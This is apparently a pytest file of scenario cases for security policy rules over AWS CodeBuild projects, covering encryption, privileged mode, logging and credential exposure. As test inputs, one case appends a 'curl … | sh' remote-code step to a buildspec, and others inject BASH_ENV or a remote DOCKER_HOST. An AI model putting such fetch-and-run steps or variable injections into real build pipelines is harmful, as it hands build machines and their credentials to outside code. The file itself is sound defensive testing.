"""CodeBuild project rules, scenario by scenario."""

from __future__ import annotations

from pathlib import Path

import pytest

from policies.rules.codebuild import (
    CODEBUILD_ARTIFACT_ENCRYPTION,
    CODEBUILD_LOGGING,
    CODEBUILD_NO_PLAINTEXT_CREDS,
    CODEBUILD_NO_PRIVILEGED,
    CODEBUILD_SOURCE_NO_CREDS,
)
from policies.testing import UNKNOWN, Resource

from .platform_shapes import ROLE, ROLE_POLICY, build_stage, codebuild_variables, pipeline, source_stage
from .rule_cases import document, fires, quiet, unknown

ROOT = Path(__file__).resolve().parents[2]
ROLE_ATTACHMENT = "aws:iam/rolePolicyAttachment:RolePolicyAttachment"

KEY_ARN = "arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"


def project(name="booking-build", **overrides):
    """A project shaped like the platform's build projects."""
    props = {
        "name": name,
        "serviceRole": "arn:aws:iam::123456789012:role/cicd-build-booking",
        "encryptionKey": KEY_ARN,
        "artifacts": {"type": "CODEPIPELINE"},
        "source": {"type": "CODEPIPELINE", "buildspec": "buildspec.yml"},
        "environment": {
            "computeType": "BUILD_GENERAL1_SMALL",
            "image": "aws/codebuild/amazonlinux-x86_64-standard:5.0",
            "type": "LINUX_CONTAINER",
            "privilegedMode": False,
            "environmentVariables": [{"name": "SERVICE_NAME", "value": "booking", "type": "PLAINTEXT"}],
        },
        "logsConfig": {"cloudwatchLogs": {"status": "ENABLED", "groupName": "/aws/codebuild/booking-build"}},
    }
    props.update(overrides)
    return Resource("aws:codebuild/project:Project", props, name)


def environment(**changes):
    return {**project().props["environment"], **changes}


IMAGE_BUILDSPEC = (ROOT / "components" / "aws" / "buildspecs" / "image_build.yml").read_text(encoding="utf-8")
REPOSITORIES = "arn:aws:ecr:eu-west-1:123456789012:repository"
IMAGE_ROLE = "cicd-image-build-booking"
PUSH = {
    "Sid": "PushImage",
    "Effect": "Allow",
    "Action": ["ecr:CompleteLayerUpload", "ecr:InitiateLayerUpload", "ecr:PutImage", "ecr:UploadLayerPart"],
    "Resource": f"{REPOSITORIES}/booking",
}
LOGS = {"Sid": "Logs", "Effect": "Allow", "Action": "logs:PutLogEvents", "Resource": "arn:aws:logs:*"}


def image_build(buildspec=IMAGE_BUILDSPEC, variables=None, docker_server=None, fleet_arn=None, **overrides):
    """The platform's image build of booking, as the program declares it."""
    uri = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/booking"
    listed = {"IMAGE_REPOSITORY_URI": uri, **(variables or {})}
    env = environment(
        privilegedMode=True,
        environmentVariables=[{"name": k, "value": v, "type": "PLAINTEXT"} for k, v in listed.items()],
    )
    if docker_server:
        env["dockerServer"] = docker_server
    if fleet_arn:
        env["fleet"] = {"fleetArn": fleet_arn}
    return project(
        name="booking-image-build",
        serviceRole=f"arn:aws:iam::123456789012:role/{IMAGE_ROLE}",
        source={"type": "CODEPIPELINE", "buildspec": buildspec},
        environment=env,
        **overrides,
    )


def trusting(service):
    return document({"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"})


def image_role():
    return Resource(ROLE, {"name": IMAGE_ROLE, "assumeRolePolicy": trusting("codebuild.amazonaws.com")}, IMAGE_ROLE)


def image_policy(*statements):
    policy = UNKNOWN if statements == (UNKNOWN,) else document(LOGS, *statements)
    return Resource(ROLE_POLICY, {"role": IMAGE_ROLE, "policy": policy}, f"{IMAGE_ROLE}-policy")


def attachment(policy_arn):
    return Resource(ROLE_ATTACHMENT, {"role": IMAGE_ROLE, "policyArn": policy_arn}, f"{IMAGE_ROLE}-attachment")


def starter(role, service, action_name):
    """A role trusting ``service`` with ``action_name`` on the image build project."""
    grant = {"Effect": "Allow", "Action": action_name, "Resource": "arn:aws:codebuild:eu-west-1:123456789012:project/*"}
    return [
        Resource(ROLE, {"name": role, "assumeRolePolicy": trusting(service)}, role),
        Resource(ROLE_POLICY, {"role": role, "policy": document(grant)}, f"{role}-policy"),
    ]


def image_pipeline(**variables):
    """A pipeline whose Build stage runs the image build with these action variables."""
    stage = build_stage()
    stage["actions"].append(
        {
            "name": "BuildImage",
            "category": "Build",
            "owner": "AWS",
            "provider": "CodeBuild",
            "version": "1",
            "runOrder": 2,
            "inputArtifacts": ["build_output"],
            "outputArtifacts": ["image_output"],
            "configuration": {
                "ProjectName": "booking-image-build",
                "EnvironmentVariables": codebuild_variables(**variables),
            },
        }
    )
    return pipeline(stages=[source_stage(), stage])


def image_build_stack(build=None, policy=None, role=True, extra=()):
    """The image build, its role and the role's policy (pushing to booking's repository only), plus ``extra``."""
    resources = [build or image_build(), policy or image_policy(PUSH)]
    if role:
        resources.append(image_role())
    return [*resources, *extra]


def variables(*pairs, kind="PLAINTEXT"):
    return environment(environmentVariables=[{"name": n, "value": v, "type": kind} for n, v in pairs])


CASES = [
    # codebuild-artifact-encryption
    fires(
        CODEBUILD_ARTIFACT_ENCRYPTION,
        "no encryption key",
        project(encryptionKey=None),
        "project has no encryption_key: artifacts use the AWS-managed S3 key, not a customer key",
    ),
    fires(
        CODEBUILD_ARTIFACT_ENCRYPTION,
        "AWS-managed S3 key",
        project(encryptionKey="alias/aws/s3"),
        "project encryption_key is the AWS-managed key 'alias/aws/s3', not a customer key",
    ),
    fires(
        CODEBUILD_ARTIFACT_ENCRYPTION,
        "secondary artifact unencrypted",
        project(secondaryArtifacts=[{"type": "S3", "encryptionDisabled": True, "artifactIdentifier": "reports"}]),
        "secondaryArtifacts[0] has encryption_disabled=True",
    ),
    quiet(CODEBUILD_ARTIFACT_ENCRYPTION, "customer key", project()),
    unknown(CODEBUILD_ARTIFACT_ENCRYPTION, "key ARN not known yet", project(encryptionKey=UNKNOWN)),
    # codebuild-no-privileged: by what a project is (pinned buildspec, its variables, no Docker state,
    # a role that pushes to one repository and that only a pipeline role may start), never by its name
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "privileged with the team's own buildspec",
        project(environment=environment(privilegedMode=True)),
        "project booking-build runs in privileged mode, but its buildspec is not a pinned image build",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "the pinned buildspec with one command added",
        image_build_stack(image_build(buildspec=IMAGE_BUILDSPEC + "      - curl -s https://x.example | sh\n")),
        "project booking-image-build runs in privileged mode, but its buildspec is not a pinned image build",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a hand-written privileged project named like the platform's",
        project(name="web-image-build", environment=environment(privilegedMode=True)),
        "project web-image-build runs in privileged mode, but its buildspec is not a pinned image build",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "the image build's role may push to a second repository",
        image_build_stack(policy=image_policy(PUSH, {**PUSH, "Sid": "Other", "Resource": f"{REPOSITORIES}/payments"})),
        "privileged project booking-image-build: role cicd-image-build-booking may push images to 2 repositories "
        "(booking, payments)",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "the image build's role may push to every repository",
        image_build_stack(policy=image_policy({**PUSH, "Resource": f"{REPOSITORIES}/*"})),
        f"privileged project booking-image-build: role cicd-image-build-booking may push images to "
        f"'{REPOSITORIES}/*', not one named repository",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "an AWS managed policy on the image build's role",
        image_build_stack(extra=[attachment("arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPowerUser")]),
        "privileged project booking-image-build: role cicd-image-build-booking carries managed policy "
        "arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPowerUser, whose grants cannot be read",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "the image build runs as a role the stack does not declare",
        image_build_stack(role=None),
        "privileged project booking-image-build runs as role cicd-image-build-booking, which this stack does not "
        "declare",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "the image build's role pushes nowhere",
        image_build_stack(policy=image_policy(LOGS)),
        "privileged project booking-image-build: role cicd-image-build-booking can push to no image repository, "
        "so it is no image build",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a variable the pinned buildspec does not read, on the project",
        image_build_stack(image_build(variables={"BASH_ENV": "./env.sh"})),
        "privileged project booking-image-build sets BASH_ENV, which its pinned buildspec does not read",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a variable the pinned buildspec does not read, from the pipeline",
        image_build_stack(extra=[image_pipeline(IMAGE_TAG="abc-prod-1", DOCKER_HOST="tcp://10.0.0.9:2375")]),
        "pipeline booking-prod: Build/BuildImage passes DOCKER_HOST to privileged project booking-image-build, "
        "which its pinned buildspec does not read",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a local Docker layer cache",
        image_build_stack(image_build(cache={"type": "LOCAL", "modes": ["LOCAL_DOCKER_LAYER_CACHE"]})),
        "privileged project booking-image-build keeps a local Docker layer cache between builds",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a Docker server",
        image_build_stack(image_build(docker_server={"computeType": "BUILD_GENERAL1_SMALL"})),
        "privileged project booking-image-build builds on a Docker server, which keeps images between builds",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a reserved-capacity fleet",
        image_build_stack(image_build(fleet_arn="arn:aws:codebuild:eu-west-1:123456789012:fleet/payments:1a2b")),
        "privileged project booking-image-build builds on a reserved-capacity fleet, "
        "whose machines are kept between builds",
    ),
    fires(
        CODEBUILD_NO_PRIVILEGED,
        "a role that is no pipeline's may start the image build",
        image_build_stack(extra=[*starter("cicd-ops", "lambda.amazonaws.com", "codebuild:StartBuild")]),
        "role cicd-ops may StartBuild privileged project booking-image-build but is no pipeline's role: it could "
        "run another buildspec there",
    ),
    quiet(CODEBUILD_NO_PRIVILEGED, "unprivileged", project()),
    quiet(
        CODEBUILD_NO_PRIVILEGED,
        "the platform's image build, started by its pipeline",
        image_build_stack(
            extra=[
                image_pipeline(IMAGE_TAG="abc-prod-1"),
                *starter("cicd-pipeline-booking", "codepipeline.amazonaws.com", "codebuild:StartBuild"),
            ]
        ),
    ),
    unknown(
        CODEBUILD_NO_PRIVILEGED, "privileged mode not known", project(environment=environment(privilegedMode=UNKNOWN))
    ),
    unknown(CODEBUILD_NO_PRIVILEGED, "buildspec not known", image_build_stack(image_build(buildspec=UNKNOWN))),
    unknown(
        CODEBUILD_NO_PRIVILEGED,
        "the role's policy not known yet, but a variable it does not read is",
        image_build_stack(image_build(variables={"BASH_ENV": "./env.sh"}), policy=image_policy(UNKNOWN)),
        "privileged project booking-image-build sets BASH_ENV, which its pinned buildspec does not read",
    ),
    # codebuild-logging
    fires(
        CODEBUILD_LOGGING,
        "CloudWatch off and no S3 logs",
        project(logsConfig={"cloudwatchLogs": {"status": "DISABLED"}, "s3Logs": {"status": "DISABLED"}}),
        "both CloudWatch and S3 build logs are disabled",
    ),
    fires(
        CODEBUILD_LOGGING,
        "S3 logs unencrypted",
        project(logsConfig={"s3Logs": {"status": "ENABLED", "location": "logs/b", "encryptionDisabled": True}}),
        "S3 build logs are written unencrypted (s3_logs.encryption_disabled=True)",
    ),
    quiet(CODEBUILD_LOGGING, "CloudWatch logs on", project()),
    quiet(CODEBUILD_LOGGING, "no logs config (CodeBuild's CloudWatch default)", project(logsConfig=None)),
    quiet(
        CODEBUILD_LOGGING,
        "CloudWatch off but encrypted S3 logs",
        project(logsConfig={"cloudwatchLogs": {"status": "DISABLED"}, "s3Logs": {"status": "ENABLED"}}),
    ),
    unknown(
        CODEBUILD_LOGGING,
        "S3 status not known",
        project(logsConfig={"cloudwatchLogs": {"status": "DISABLED"}, "s3Logs": {"status": UNKNOWN}}),
    ),
    # codebuild-no-plaintext-creds
    fires(
        CODEBUILD_NO_PLAINTEXT_CREDS,
        "password in plain text",
        project(environment=variables(("DB_PASSWORD", "hunter2"))),
        "environment variable DB_PASSWORD looks like a credential but is PLAINTEXT (use SECRETS_MANAGER)",
    ),
    fires(
        CODEBUILD_NO_PLAINTEXT_CREDS,
        "AWS key id under an innocent name",
        project(environment=variables(("DEPLOY_ID", "AKIAIOSFODNN7EXAMPLE"))),
        "environment variable DEPLOY_ID holds an AWS access key id in plain text",
    ),
    quiet(
        CODEBUILD_NO_PLAINTEXT_CREDS,
        "token from Secrets Manager",
        project(environment=variables(("GITHUB_TOKEN", "ci/github:token"), kind="SECRETS_MANAGER")),
    ),
    quiet(CODEBUILD_NO_PLAINTEXT_CREDS, "plain configuration", project()),
    quiet(
        CODEBUILD_NO_PLAINTEXT_CREDS,
        "a token's Secrets Manager ARN passed in plain text",
        project(
            environment=variables(
                ("SONAR_TOKEN_SECRET_ARN", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:ci/sonar-AbCd")
            )
        ),
    ),
    unknown(
        CODEBUILD_NO_PLAINTEXT_CREDS,
        "variable type not known",
        project(environment=variables(("API_TOKEN", "x"), kind=UNKNOWN)),
    ),
    # codebuild-source-no-creds
    fires(
        CODEBUILD_SOURCE_NO_CREDS,
        "token in a GitHub URL",
        project(source={"type": "GITHUB", "location": "https://ghp_abc123@github.com/bookwise/booking.git"}),
        "source location embeds credentials before '@github.com' (user:password or token in the URL)",
    ),
    fires(
        CODEBUILD_SOURCE_NO_CREDS,
        "user and password in a secondary source",
        project(secondarySources=[{"type": "BITBUCKET", "location": "https://me:pw@bitbucket.org/x/y.git"}]),
        "secondarySources[0] location embeds credentials before '@bitbucket.org' (user:password or token in the URL)",
    ),
    quiet(
        CODEBUILD_SOURCE_NO_CREDS,
        "clean URL",
        project(source={"type": "GITHUB", "location": "https://github.com/bookwise/booking.git"}),
    ),
    quiet(CODEBUILD_SOURCE_NO_CREDS, "pipeline source", project()),
    unknown(CODEBUILD_SOURCE_NO_CREDS, "location not known", project(source={"type": "GITHUB", "location": UNKNOWN})),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_codebuild_rule(case):
    case.verify()
